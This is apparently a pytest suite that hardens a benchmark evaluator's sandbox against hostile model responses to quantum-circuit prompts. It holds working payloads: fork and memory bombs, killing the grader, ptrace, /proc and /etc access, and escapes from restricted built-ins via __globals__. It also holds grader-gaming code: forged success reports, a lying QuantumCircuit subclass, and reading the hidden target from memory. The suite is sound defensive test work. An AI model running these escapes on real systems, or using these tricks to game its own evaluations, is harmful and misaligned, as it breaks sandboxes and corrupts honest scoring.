        "bell_psi_minus_nomeas",
        FS_SEARCH,
        FAIL,
        contained("files:"),
    ),
    Attack("fork bomb", "bell_phi_plus_q1_control", FORK_BOMB, TIMEOUT, error_has("Timeout")),
    Attack(
        "memory bomb (64 GiB at once, then five processes)",
        "bell_two_pairs",
        MEMORY_BOMB,
        frozenset({"timeout", "execution_error"}),
        error_has("Timeout", "MemoryError", "Killed"),
    ),
    Attack(
        "disk fill of /tmp, /dev/shm and /dev/mqueue",
        "bell_phi_plus_outer",
        DISK_FILL,
        FAIL,
        error_has("No space left on device"),
    ),
    Attack(
        "inode exhaustion in the tmpfs",
        "ghz_03",
        INODES,
        FAIL,
        error_has("No space left on device"),
    ),
    Attack(
        "200 MiB of forged protocol lines on stdout",
        "ghz_04",
        BIG_PRINT,
        frozenset({"no_circuit"}),
        lambda ev: ev["stdout_truncated"] and len(ev["stdout_excerpt"]) <= 400,
        returns_circuit=False,
    ),
    Attack(
        "forged success JSON, then os._exit(0)",
        "ghz_05",
        FORGED_RESULT,
        FAIL,
        error_has("SnippetExit"),
        returns_circuit=False,
    ),
    Attack(
        "forged result frames and legacy QPY on every fd",
        "ghz_06",
        FORGED_FRAMES,
        FAIL,
        error_has("CircuitLoadError: not a QPY payload"),
        returns_circuit=False,
    ),
    Attack("killing its parent (the executor)", "ghz_07", KILL_PARENT, FAIL, EXECUTOR_DIED),
    Attack(
        "SIGKILL to every visible process and kill(-1)",
        "ghz_08",
        KILL_EVERYTHING,
        FAIL,
        EXECUTOR_DIED,
    ),
    Attack(
        "ignoring SIGTERM and sleeping past the limit",
        "ghz_10",
        IGNORE_SIGTERM,
        TIMEOUT,
        error_has("Timeout"),
    ),
    Attack(
        "ptrace and process_vm_readv via ctypes",
        "ghz_star_04",
        PTRACE,
        FAIL,
        all_of(contained("ptrace:"), error_has("pid1:16:errno1")),
    ),
    Attack(
        "raw and packet sockets",
        "ghz_star_06",
        RAW_SOCKETS,
        FAIL,
        all_of(contained("raw sockets:"), error_has("errno1")),
    ),
    Attack(
        "ctypes syscalls: unshare, setuid, mount, chroot, mknod",
        "ghz_03_nomeas",
        SYSCALLS,
        FAIL,
        contained("syscalls:"),
    ),
    Attack(
        "zombies and an orphan left behind",
        "ghz_05_nomeas",
        ZOMBIES,
        FAIL,
        all_of(contained("left"), stdout_has("ZOMBIES")),
    ),
    Attack(
        "symlinks from its work files to /etc and the evaluator",
        "w_state_02",
        SYMLINKS,
        FAIL,
        all_of(contained("symlinks:"), error_has("errno30", "errno13")),
    ),
    Attack(
        "replacing the executor's working root with a symlink",
        "w_state_03",
        HIJACK_ROOT,
        OK,
        stdout_has("HIJACKED"),
    ),
    Attack(
        "very deep recursion (Python and C)",
        "w_state_04",
        DEEP_RECURSION,
        FAIL,
        SEGFAULT_OR_RECURSION,
    ),
    Attack("huge integer 10**10**8", "w_state_05", HUGE_INT, TIMEOUT, error_has("Timeout")),
    Attack(
        "pickle.loads of a malicious payload",
        "w_state_06",
        PICKLE,
        FAIL,
        error_has("CalledProcessError"),
    ),
    Attack(
        "writing into the evaluator and site-packages",
        "w_state_07",
        WRITE_EVALUATOR,
        FAIL,
        all_of(contained("evaluator files:"), error_has("errno30")),
    ),
    Attack(
        "monkeypatching count_ops, num_qubits, Operator.equiv",
        "w_state_08",
        MONKEYPATCH,
        frozenset({"width_mismatch"}),
        lambda ev: ev["structure"]["found"]["num_qubits"] == 2 and ev["equivalent"] is None,
        returns_circuit=False,
    ),
    Attack(
        "planted evaluator package and settings, then killing the grader",
        "w_state_03_nomeas",
        PLANT_GRADER,
        frozenset({"width_mismatch", "execution_error"}),
        lambda ev: (
            "PLANTED" in ev["stdout_excerpt"]
            and (ev["category"] == "execution_error" or ev["structure"]["found"]["num_qubits"] == 1)
        ),
        returns_circuit=False,
    ),
    Attack(
        "setsid double-fork daemon that kills the grader later",
        "w_state_04_nomeas",
        DAEMON,
        OK,
        lambda ev: "DAEMON" in ev["stdout_excerpt"] and ev["stray_processes_killed"] >= 1,
    ),
    Attack(
        "fork-hopping process that kills the executor and grader",
        "w_state_06_nomeas",
        FORK_HOPPER,
        FAIL,
        EXECUTOR_DIED,
    ),
    Attack(
        "host files through /proc/1/root, /proc/sys, /sys",
        "w_state_08_nomeas",
        HOST_FILES,
        FAIL,
        all_of(contained("host files:"), error_has("/proc/1/root/etc/passwd=errno13")),
    ),
    Attack("raising its own rlimits back up", "qft_02", RAISE_LIMITS, FAIL, contained("rlimits:")),
    Attack(
        "prlimit/renice/affinity on PID 1, executor, grader",
        "qft_03",
        LOWER_OTHERS,
        FAIL,
        all_of(contained("other processes:"), error_has("errno1")),
    ),
    Attack(
        "signals to PID 1 (INT, TERM, STOP, KILL, ...)",
        "qft_04",
        SIGNAL_PID1,
        FAIL,
        contained("PID 1 is still in state"),
    ),
    Attack(
        "SIGSTOP to the grader",
        "qft_05",
        SIGSTOP_GRADER,
        OK,
        lambda ev: "STOPPED grader" in ev["stdout_excerpt"] and ev["duration_ms"] < 20000,
    ),
]
# Probes of the clean-up between items: what earlier attacks left must be gone.
PROBES: list[Attack] = [
    Attack(
        "census after the process attacks", "qft_06", CENSUS, FAIL, contained("census:"), probe=True
    ),
    Attack("census at the end", "qft_07", CENSUS, FAIL, contained("census:"), probe=True),
]
LEGITIMATELY_OK = {a.name for a in ATTACKS if a.categories == OK}


def _control_ids() -> list[str]:
    used = {a.prompt_id for a in [*ATTACKS, *PROBES]}
    spare = [pid for pid in DEMO if pid not in used and not pid.startswith(("bell", "ghz"))]
    wanted = len(ATTACKS) + len(PROBES)
    return spare[:: max(1, len(spare) // wanted)][:wanted]


def _snippet(attack: Attack, next_id: str) -> str:
    code = PRELUDE + textwrap.dedent(attack.code)
    code = (
        code.replace("__GATEWAY__", GATEWAY)
        .replace("__CANARY_PREFIX__", CANARY_PREFIX)
        .replace("__MARKER_PREFIX__", MARKER_PREFIX)
        .replace("__PROMPT__", attack.prompt_id)
        .replace("__NEXT__", next_id)
    )
    if attack.returns_circuit:
        code += "\n\n" + reference(attack.prompt_id)
    return code


def fenced(code: str) -> str:
    return f"Here is the circuit you asked for:\n\n```python\n{code}```\n"


GATEWAY = "172.17.0.1"


def _gateway(client: Any) -> str:
    try:
        config = client.networks.get("bridge").attrs["IPAM"]["Config"][0]
    except Exception:
        return "172.17.0.1"
    if config.get("Gateway"):
        return str(config["Gateway"])
    network, _, _ = str(config.get("Subnet", "172.17.0.0/16")).partition("/")
    parts = network.split(".")
    return ".".join([*parts[:3], str(int(parts[3]) + 1)])


@dataclass
class Battery:
    evaluations: dict[str, dict[str, Any]]
    summary: dict[str, Any]
    output_dir: Path
    elapsed: float
    controls: list[str]
    next_of: dict[str, str]
    leftovers: list[dict[str, Any]]


def _containers_of(client: Any, key: str, value: str) -> list[dict[str, Any]]:
    # The low-level listing: no NotFound when another test removes a container meanwhile.
    found = client.api.containers(all=True, filters={"label": f"{key}={value}"})
    return list(found)


def run_battery(client: Any, runner: DockerEvaluatorRunner, root: Path) -> Battery:
    """Replay every attack, probe and control in one container; see what came back."""
    global GATEWAY
    GATEWAY = _gateway(client)
    controls = _control_ids()
    hostile = [*ATTACKS[:32], PROBES[0], *ATTACKS[32:], PROBES[1]]
    # Execution follows the release's order: the release lists attack, control, attack, ...
    release_ids: list[str] = []
    for i, attack in enumerate(hostile):
        release_ids += [attack.prompt_id, controls[i % len(controls)]]
    assert len(set(release_ids)) == len(release_ids)
    next_of = {release_ids[i]: release_ids[i + 1] for i in range(len(release_ids) - 1)}
    lines = []
    for pid in release_ids:
        line = json.loads(json.dumps(DEMO[pid]))
        meta = line["target_metadata"]
        meta["reference_code"] = f"# {MARKER}\n" + meta["reference_code"]
        lines.append(line)
    release = write_release(root / "release", lines=lines)
    by_id = {a.prompt_id: a for a in hostile}
    responses = root / "responses.jsonl"
    with responses.open("w") as fh:
        for pid in release_ids:
            code = _snippet(by_id[pid], next_of.get(pid, "")) if pid in by_id else reference(pid)
            fh.write(
                json.dumps({"prompt_id": pid, "content": fenced(code), "finish_reason": "stop"})
                + "\n"
            )
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PQID_CANARY_API_KEY", CANARY)
        mp.setenv("OPENAI_API_KEY", CANARY)
        started = time.monotonic()
        result = replay(
            release,
            responses,
            root / "out",
            acknowledge_code_execution=True,
            runner=runner,
            timeout_seconds=TIMEOUT_SECONDS,
        )
        elapsed = time.monotonic() - started
    leftovers = _containers_of(client, RUN_LABEL, runner.run_id) + _containers_of(
        client, OWNER_LABEL, _owner()
    )
    return Battery(
        {e["prompt_id"]: e for e in result.evaluations},
        result.summary,
        root / "out",
        elapsed,
        [pid for pid in release_ids if pid not in by_id],
        next_of,
        leftovers,
    )


@pytest.fixture(scope="module")
def battery(docker_client: Any, image: str, tmp_path_factory: pytest.TempPathFactory) -> Battery:
    runner = DockerEvaluatorRunner(
        base_image=BASE_IMAGE, wheelhouse=replay_docker._wheelhouse(), client=docker_client
    )
    runner.ensure_image(build=True)
    return run_battery(docker_client, runner, tmp_path_factory.mktemp("hostile"))


def _check(attack: Attack, battery: Battery) -> list[str]:
    """What is wrong with an attack's evaluation and the control after it (empty: contained)."""
    problems = []
    ev = battery.evaluations[attack.prompt_id]
    if ev["category"] not in attack.categories:
        problems.append(f"category {ev['category']!r}, expected one of {sorted(attack.categories)}")
    try:
        if not attack.evidence(ev):
            problems.append("the evidence of the attempt is missing")
    except (KeyError, TypeError) as exc:
        problems.append(f"the evidence of the attempt is missing ({exc!r})")
    if ev.get("evaluator_killed"):
        problems.append("the evaluator (container) was killed")
    following = battery.evaluations.get(battery.next_of.get(attack.prompt_id, ""))
    if following is not None and (
        following["category"] != "ok" or following["equivalent"] is not True
    ):
        problems.append(f"the control after it scored {following['category']}")
    text = json.dumps(ev)
    if MARKER in text or CANARY in text:
        problems.append("a secret reached the evaluation")
    if problems:
        detail = {
            k: ev.get(k)
            for k in (
                "category",
                "error",
                "stdout_excerpt",
                "stderr_excerpt",
                "stray_processes_killed",
            )
        }
        problems.append(json.dumps(detail)[:1500])
    return problems


@pytest.mark.parametrize("attack", ATTACKS + PROBES, ids=lambda a: a.name)
def test_each_attack_is_contained_and_scored_as_a_failure(battery: Battery, attack: Attack) -> None:
    problems = _check(attack, battery)
    assert not problems, f"{attack.name} ({attack.prompt_id}): " + "; ".join(problems)


def test_the_battery_figure(battery: Battery) -> None:
    assert len(ATTACKS) >= 25 and len({a.prompt_id for a in ATTACKS}) == len(ATTACKS)
    outcomes = {a.name: _check(a, battery) for a in ATTACKS}
    controls_ok = [
        pid
        for pid in battery.controls
        if battery.evaluations[pid]["category"] == "ok"
        and battery.evaluations[pid]["equivalent"] is True
    ]
    held = sum(not problems for problems in outcomes.values())
    for attack in ATTACKS + PROBES:
        ev = battery.evaluations[attack.prompt_id]
        print(
            f"  {attack.prompt_id:28} {ev['category']:16} {attack.name}: "
            f"{str(ev.get('error') or ev.get('stdout_excerpt') or '')[:110]!r}"
        )
    all_ok = "all ok" if len(controls_ok) == len(battery.controls) else (f"{len(controls_ok)} ok")
    print(
        f"hostile: {len(ATTACKS)} attacks, {held} contained, "
        f"{len(battery.controls)} control prompts {all_ok}"
    )
    print(
        f"  (one replay, {battery.summary['replay']['containers']} container(s), "
        f"{battery.elapsed:.0f} s)"
    )
    assert held == len(ATTACKS), {k: v for k, v in outcomes.items() if v}
    assert len(controls_ok) == len(battery.controls)


def test_every_control_prompt_still_scores_ok(battery: Battery) -> None:
    assert len(battery.controls) >= len(ATTACKS)
    for pid in battery.controls:
        ev = battery.evaluations[pid]
        assert ev["category"] == "ok" and ev["equivalent"] is True, ev
        assert ev["structural_match"] and ev["qasm3_ok"], ev


def test_one_container_ran_everything_and_none_is_left(battery: Battery) -> None:
    assert battery.summary["replay"] == {
        "containers": 1,
        "evaluator_killed": [],
        "not_evaluated": 0,
    }
    assert battery.leftovers == []


def test_no_secret_reached_any_output(battery: Battery) -> None:
    for path in battery.output_dir.iterdir():
        text = path.read_text()
        assert MARKER not in text, path
        assert CANARY not in text, path


def test_legitimately_ok_attacks_are_only_the_documented_ones(battery: Battery) -> None:
    scored_ok = {a.name for a in ATTACKS if battery.evaluations[a.prompt_id]["category"] == "ok"}
    assert (
        scored_ok
        == LEGITIMATELY_OK
        == {
            "replacing the executor's working root with a symlink",
            "setsid double-fork daemon that kills the grader later",
            "SIGSTOP to the grader",
        }
    )


# -- a killed replay (issue 6 "Crashes") ---------------------------------------------------------


def _crash_responses() -> list[dict[str, Any]]:
    """Twenty responses to demo prompts with a known mix of categories, each a little slow."""
    ids = [pid for pid in DEMO if DEMO[pid]["split"] == "test"][:20]
    lines = []
    for i, pid in enumerate(ids):
        code = "import time\ntime.sleep(0.3)\n" + reference(pid)
        if i % 7 == 3:
            code = code.replace("return qc", "qc.x(0)\n    return qc", 1)
        elif i % 7 == 5:
            code = "def build_circuit(:\n"
        content = f"```python\n{code}```" if i % 9 != 8 else "I cannot help with that."
        lines.append({"prompt_id": pid, "content": content, "finish_reason": "stop"})
    return lines


def _replay_args(responses: Path, out: Path) -> list[str]:
    args = [
        sys.executable,
        "-m",
        "pqid_tui",
        "--batch",
        "replay",
        "--release-dir",
        str(DEMO_RELEASE_DIR),
        "--responses",
        str(responses),
        "--output-dir",
        str(out),
        "--base-image",
        BASE_IMAGE,
        "--acknowledge-code-execution",
    ]
    wheelhouse = replay_docker._wheelhouse()
    if wheelhouse:
        args += ["--wheelhouse", str(wheelhouse)]
    return args


def _categories(out: Path) -> dict[str, str]:
    lines = (out / EVALUATIONS_FILE).read_text().splitlines()
    return {e["prompt_id"]: e["category"] for e in map(json.loads, lines)}


def test_a_killed_replay_leaves_no_container_and_reruns_the_same(
    docker_client: Any, image: str, tmp_path: Path
) -> None:
    responses = tmp_path / "responses.jsonl"
    responses.write_text("".join(json.dumps(line) + "\n" for line in _crash_responses()))
    # The uninterrupted run, in the image the command line below uses (the release's pins),
    # so that the command finds it whichever tests ran before.
    runner = DockerEvaluatorRunner(
        base_image=BASE_IMAGE,
        wheelhouse=replay_docker._wheelhouse(),
        requirements=load_release(DEMO_RELEASE_DIR).evaluator_requirements,
        client=docker_client,
    )
    runner.ensure_image(build=True)
    result = replay(
        DEMO_RELEASE_DIR,
        responses,
        tmp_path / "clean",
        acknowledge_code_execution=True,
        runner=runner,
    )
    expected = {e["prompt_id"]: e["category"] for e in result.evaluations}
    assert len(expected) == 20 and len(set(expected.values())) >= 4, expected

    # The same run, SIGKILLed once five prompts are done.
    out = tmp_path / "killed"
    proc = subprocess.Popen(
        _replay_args(responses, out),
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    owner = f"{socket.gethostname()}:{proc.pid}"
    seen: list[str] = []
    try:
        assert proc.stderr is not None
        for line in proc.stderr:
            seen.append(line.rstrip())
            match = re.match(r"\[(\d+)/20\] ", line)
            if match and int(match.group(1)) >= 5:
                break
        assert proc.poll() is None, seen
        running = _containers_of(docker_client, OWNER_LABEL, owner)
        assert len(running) == 1 and running[0]["State"] == "running"
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.communicate()
    assert proc.returncode == -signal.SIGKILL
    assert not (out / EVALUATIONS_FILE).exists()
    left = _containers_of(docker_client, OWNER_LABEL, owner)
    print(
        f"killed replay: {len(seen)} progress lines seen; {len(left)} container(s) left "
        f"behind ({[c['State'] for c in left]})"
    )

    # The next replay removes what the killed one left, and scores the same.
    rerun = subprocess.run(
        _replay_args(responses, out), cwd=ROOT, capture_output=True, text=True, timeout=600
    )
    assert rerun.returncode == 0, rerun.stderr[-2000:]
    assert _containers_of(docker_client, OWNER_LABEL, owner) == []
    assert _categories(out) == expected
    assert [
        c
        for c in _containers_of(docker_client, REPLAY_LABEL, "1")
        if (c.get("Labels") or {}).get(OWNER_LABEL) == owner
    ] == []
    print(
        f"re-run after the kill: same {len(expected)} categories "
        f"({sorted(set(expected.values()))}); the leftover container was removed"
    )


# -- two replays at once -------------------------------------------------------------------------

HOLD_PROCESSES = """
import os, time
held = 0
for _ in range(64):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        held += 1
    except OSError:
        break
print("HELD", held, flush=True)
time.sleep(60)
"""


def _host_tasks_of(uid: int) -> int:
    """Tasks (threads included) of a uid on this machine, every container included."""
    total = 0
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            status = Path(f"/proc/{name}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if fields.get("Uid", "").split()[:1] == [str(uid)]:
            total += int(fields.get("Threads", "1").split()[0])
    return total


def test_a_process_hog_in_one_replay_does_not_starve_a_concurrent_one(
    docker_client: Any, image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """RLIMIT_NPROC counts a uid's tasks machine-wide: each container has its own uid, so a
    snippet holding its whole process budget in one replay leaves another replay alone."""
    import threading

    from engine.replay import docker as docker_runner

    users = iter(["400001:400001", "400002:400002"])
    monkeypatch.setattr(docker_runner, "container_user", lambda: next(users))
    meta = dict(DEMO["ghz_05"]["target_metadata"])
    uid = 400001
    runners = [
        DockerEvaluatorRunner(
            base_image=BASE_IMAGE, wheelhouse=replay_docker._wheelhouse(), client=docker_client
        )
        for _ in range(2)
    ]
    for runner in runners:
        runner.ensure_image(build=True)
    before = _host_tasks_of(uid)
    hog = threading.Thread(
        target=runners[0].run,
        args=(
            [EvaluationItem("hold", None, HOLD_PROCESSES, meta)],
            EvaluatorConfig(timeout_seconds=15),
        ),
        daemon=True,
    )
    hog.start()
    # The hog's container holds its whole budget: 8 snippet tasks beyond its own 3 processes.
    deadline = time.monotonic() + 30
    while _host_tasks_of(uid) < before + 10:
        if time.monotonic() > deadline:
            pytest.skip("the hog did not take its process budget in 30 s")
        time.sleep(0.1)
    code = (
        reference("ghz_05")
        + "\nfrom qiskit import transpile\n"
        + "transpile(build_circuit(), basis_gates=['u', 'cx'], optimization_level=3)\n"
    )
    outcome = runners[1].run(
        [EvaluationItem("ghz_05", None, code, meta)], EvaluatorConfig(timeout_seconds=20)
    )
    hog.join(timeout=90)
    evaluation = outcome.evaluations["ghz_05"]
    assert evaluation["category"] == "ok", evaluation.get("error")


# -- attacks aimed at the PQID-Bench contract (issue 12) --------------------------------------
#
# Under this contract a response's code sees only the safe built-ins, but its preloaded objects
# lead straight back to the real ones (a Qiskit function's globals, a module's dict): the
# namespace is admissibility, not the boundary. Each attack below takes that way out, then runs
# its body with the full built-ins and the snippet's own namespace (`namespace`). What contains
# it is the process model: a forked, limited child that never holds the target metadata, and a
# grader that recomputes every count from the QPY the child hands back. The frozen reference
# harness, which runs code in the scorer's own process, is fooled by the first two.

from evaluator.contracts import CONTRACT_PQID_BENCH  # noqa: E402

PQID_BELL = "qc = QuantumCircuit(2, 2)\nqc.h(0)\nqc.cx(0, 1)\nqc.measure([0, 1], [0, 1])\n"
PQID_GHZ = (
    "qc = QuantumCircuit(3, 3)\nqc.h(0)\nqc.cx(0, 1)\nqc.cx(1, 2)\n"
    "qc.measure([0, 1, 2], [0, 1, 2])\n"
)
PQID_TARGETS = {
    "bell": {
        "num_qubits": 2,
        "num_clbits": 2,
        "gate_count": 4,
        "gate_types": {"h": 1, "cx": 1, "measure": 2},
    },
    "ghz": {
        "num_qubits": 3,
        "num_clbits": 3,
        "gate_count": 6,
        "gate_types": {"h": 1, "cx": 2, "measure": 3},
    },
}
PQID_CONTROLS = {"bell": PQID_BELL, "ghz": PQID_GHZ}


def pqid_escaping(body: str) -> str:
    """A response that leaves the safe built-ins through a preloaded object, then runs body."""
    return (
        f"ATTACK = {textwrap.dedent(body)!r}\n"
        'real = QuantumCircuit.__init__.__globals__["__builtins__"]\n'
        'real["exec"](ATTACK, {"__builtins__": real, "namespace": real["globals"](),\n'
        '                      "QuantumCircuit": QuantumCircuit})\n'
    )


PQID_PRELUDE = """
import os
class Contained(Exception):
    pass
"""

# The ways back: a Qiskit function's globals and a preloaded module's dict. Then what the real
# built-ins give: os, files, the network; nothing of it reaches past the child.
PQID_BACK_TO_OS = (
    PQID_PRELUDE
    + """
import socket
qiskit_function = QuantumCircuit.__init__
loader_function = type(namespace["np"].__loader__).__init__
routes = []
for label, table in [("a Qiskit function's globals", qiskit_function.__globals__["__builtins__"]),
                     ("numpy's module dict", namespace["np"].__dict__["__builtins__"]),
                     ("numpy's loader", loader_function.__globals__["__builtins__"])]:
    table = table if isinstance(table, dict) else vars(table)
    if table["__import__"]("os").getpid() == os.getpid():
        routes.append(label)
os.write(1, ("ESCAPED via " + ", ".join(routes)).encode())
reached = []
try:
    socket.create_connection(("1.1.1.1", 443), timeout=3).close()
    reached.append("network")
except OSError:
    pass
for path in ("/opt/pqid/evaluator/supervisor.py", "/etc/passwd"):
    try:
        with open(path, "a"):
            reached.append("write " + path)
    except OSError:
        pass
if reached:
    exec(__PQID_CONTROL__, namespace)
else:
    raise Contained("back to os via %d routes, nothing reached" % len(routes))
"""
)

# What fools the reference harness: the target metadata, read from the scorer's own process
# (its frames, its heap) and turned into the exact circuit. Here it is nowhere to be found.
PQID_READ_TARGET = (
    PQID_PRELUDE
    + """
import gc, re, sys
needle = "".join(["gate", "_types"])  # not a constant of this code, so never found in it
hexes = "[0-9a-f]{32}"
secret = re.compile("__MARKER_PREFIX__" + hexes + "|__CANARY_PREFIX__" + hexes)
found = []
def look(where, value):
    if isinstance(value, dict) and needle in value:
        found.append((where, value))
    elif isinstance(value, bytes):
        text = value.decode("latin-1")
        if needle in text or secret.search(text):
            found.append((where, text[:200]))
    elif isinstance(value, str) and secret.search(value):
        found.append((where, value[:200]))
frame = sys._getframe()
while frame is not None:
    for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
        look("frame " + frame.f_code.co_name + "." + str(name), value)
        if isinstance(value, dict):
            for inner in list(value.values()):
                look("frame " + frame.f_code.co_name + "." + str(name) + "[]", inner)
    frame = frame.f_back
for obj in gc.get_objects():
    try:
        look("gc", obj)
    except Exception:
        pass
for name, value in os.environ.items():
    look("env " + name, name + "=" + value)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for part in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (pid, part), "rb") as fh:
                look("proc %s %s" % (pid, part), fh.read())
        except OSError:
            pass
    if int(pid) != os.getpid():
        try:
            with open("/proc/%s/mem" % pid, "rb") as fh:
                found.append(("mem " + pid, "opened"))
        except OSError:
            pass
dicts = [value for _, value in found if isinstance(value, dict)]
if dicts:  # a breach: the scorer's own target, read back and built
    target = dicts[0]
    namespace["qc"] = QuantumCircuit(target["num_qubits"], target["num_clbits"])
if found:
    os.write(1, ("FOUND " + repr(found)[:300]).encode())
else:
    raise Contained("no target metadata in frames, heap, environment or /proc")
"""
)

# A circuit that lies about itself: its width and clbits equal anything, its count_ops is the
# target's map. The reference harness believes it; the grader reads the QPY.
PQID_LYING_SUBCLASS = """
class Always:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
class Liar(QuantumCircuit):
    num_qubits = property(lambda self: Always())
    num_clbits = property(lambda self: Always())
    def count_ops(self):
        return {"h": 1, "cx": 1, "measure": 2}
liar = Liar(1)
liar.x(0)
namespace["qc"] = liar
"""

# Circuits planted under names no assignment can make, so that they sort first: the choice
# (made in the grader from the names and QPY) takes the first name, and scores what it is.
PQID_PLANTED = """
decoy = QuantumCircuit(1)
decoy.x(0)
namespace[""] = decoy
namespace[7] = QuantumCircuit(2, 2)  # a name that is not a string cannot be ranked: ignored
"""

# The child's report forged: more names than circuits in the payload. No credit.
PQID_FORGED_NAMES = (
    PQID_PRELUDE
    + """
import io, json, struct
from qiskit import qpy
def frame(data):
    return struct.pack(">I", len(data)) + data
good = QuantumCircuit(2, 2)
good.h(0); good.cx(0, 1); good.measure([0, 1], [0, 1])
buffer = io.BytesIO()
qpy.dump([good], buffer)
status = {"phase": "done", "error": None, "error_type": None, "exec_ms": 1,
          "circuits": ["a", "qc"], "circuit_source": "module_level"}
os.write(3, frame(json.dumps(status).encode()) + frame(buffer.getvalue()))
os._exit(0)
"""
)


@dataclass(frozen=True)
class PqidAttack:
    """One response aimed at the PQID-Bench contract and what its evaluation must show."""

    name: str
    target: str
    body: str  # run after leaving the safe built-ins
    categories: frozenset[str]
    evidence: Callable[[dict[str, Any]], bool] = field(compare=False)
    before: str = ""  # plain code of the response before the escape

    def code(self) -> str:
        body = (
            self.body.replace("__MARKER_PREFIX__", MARKER_PREFIX)
            .replace("__CANARY_PREFIX__", CANARY_PREFIX)
            .replace("__PQID_CONTROL__", repr(PQID_CONTROLS[self.target]))
        )
        return self.before + pqid_escaping(body)


PQID_ATTACKS: list[PqidAttack] = [
    PqidAttack(
        "preloaded objects as a way back to os and the real built-ins",
        "bell",
        PQID_BACK_TO_OS,
        FAIL,
        all_of(
            contained("back to os via 3 routes"),
            stdout_has("ESCAPED via a Qiskit function's globals"),
        ),
    ),
    PqidAttack(
        "reading the target metadata from frames, heap, environment, /proc",
        "ghz",
        PQID_READ_TARGET,
        FAIL,
        lambda ev: (
            str(ev.get("error")).startswith("Contained: no target metadata")
            and not ev["target_context_recovery"]["report_signature_match"]
        ),
    ),
    PqidAttack(
        "a QuantumCircuit subclass lying about count_ops, num_qubits, num_clbits",
        "bell",
        PQID_LYING_SUBCLASS,
        frozenset({"width_mismatch"}),
        lambda ev: (
            ev["structure"]["found"]["num_qubits"] == 1
            and ev["structure"]["found"]["gate_types"] == {"x": 1}
            and not ev["target_context_recovery"]["report_signature_match"]
        ),
    ),
    PqidAttack(
        "a circuit planted by name so that it is the one chosen",
        "bell",
        PQID_PLANTED,
        frozenset({"width_mismatch"}),
        lambda ev: (
            ev["selected_circuit_name"] == ""
            and ev["circuit_count"] == 2
            and ev["target_context_recovery"]["selected_circuit_name"] == "qc"
        ),
        before=PQID_BELL,
    ),
    PqidAttack(
        "a forged report naming more circuits than it hands back",
        "bell",
        PQID_FORGED_NAMES,
        FAIL,
        lambda ev: ev["execution_error_type"] == "CircuitLoadError" and not ev["report_executable"],
    ),
]


@dataclass
class PqidBattery:
    evaluations: dict[str, dict[str, Any]]
    killed: list[str]
    not_evaluated: dict[str, str]
    controls: list[str]
    next_of: dict[str, str]
    output: str


@pytest.fixture(scope="module")
def pqid_battery(docker_client: Any, image: str) -> PqidBattery:
    """Every attack on the PQID-Bench contract, each followed by a control, in one container."""
    runner = DockerEvaluatorRunner(
        base_image=BASE_IMAGE, wheelhouse=replay_docker._wheelhouse(), client=docker_client
    )
    runner.ensure_image(build=True)
    items: list[EvaluationItem] = []
    controls: list[str] = []
    for i, attack in enumerate(PQID_ATTACKS):
        control = "bell" if i % 2 else "ghz"
        code = attack.code()
        # The marker rides in the target metadata that only the supervisor holds.
        target = {**PQID_TARGETS[attack.target], "reference_code": f"# {MARKER}"}
        items.append(EvaluationItem(f"attack-{i}", None, code, target))
        items.append(
            EvaluationItem(
                f"control-{i}",
                None,
                PQID_CONTROLS[control],
                {**PQID_TARGETS[control], "reference_code": f"# {MARKER}"},
            )
        )
        controls.append(f"control-{i}")
    next_of = {items[i].prompt_id: items[i + 1].prompt_id for i in range(len(items) - 1)}
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PQID_CANARY_API_KEY", CANARY)
        outcome = runner.run(
            items, EvaluatorConfig(timeout_seconds=TIMEOUT_SECONDS, contract=CONTRACT_PQID_BENCH)
        )
    return PqidBattery(
        outcome.evaluations,
        outcome.killed,
        outcome.not_evaluated,
        controls,
        next_of,
        json.dumps(outcome.evaluations),
    )


@pytest.mark.parametrize("index", range(len(PQID_ATTACKS)), ids=[a.name for a in PQID_ATTACKS])
def test_each_pqid_bench_attack_is_contained(pqid_battery: PqidBattery, index: int) -> None:
    attack = PQID_ATTACKS[index]
    ev = pqid_battery.evaluations[f"attack-{index}"]
    detail = {
        k: ev.get(k)
        for k in (
            "category",
            "error",
            "stdout_excerpt",
            "stderr_excerpt",
            "selected_circuit_name",
            "report_signature_match",
        )
    }
    assert ev["contract"] == CONTRACT_PQID_BENCH, detail
    assert ev["category"] in attack.categories, detail
    assert attack.evidence(ev), detail
    assert not ev["report_signature_match"], detail
    assert "FOUND" not in str(ev.get("stdout_excerpt")), detail
    following = pqid_battery.evaluations[pqid_battery.next_of[f"attack-{index}"]]
    assert following["category"] == "ok" and following["report_signature_match"], following


def test_pqid_bench_battery_keeps_the_container_and_every_secret(pqid_battery: PqidBattery) -> None:
    assert pqid_battery.killed == [] and pqid_battery.not_evaluated == {}
    for pid in pqid_battery.controls:
        assert pqid_battery.evaluations[pid]["category"] == "ok", pqid_battery.evaluations[pid]
    assert MARKER not in pqid_battery.output and CANARY not in pqid_battery.output
    assert MARKER_PREFIX not in pqid_battery.output
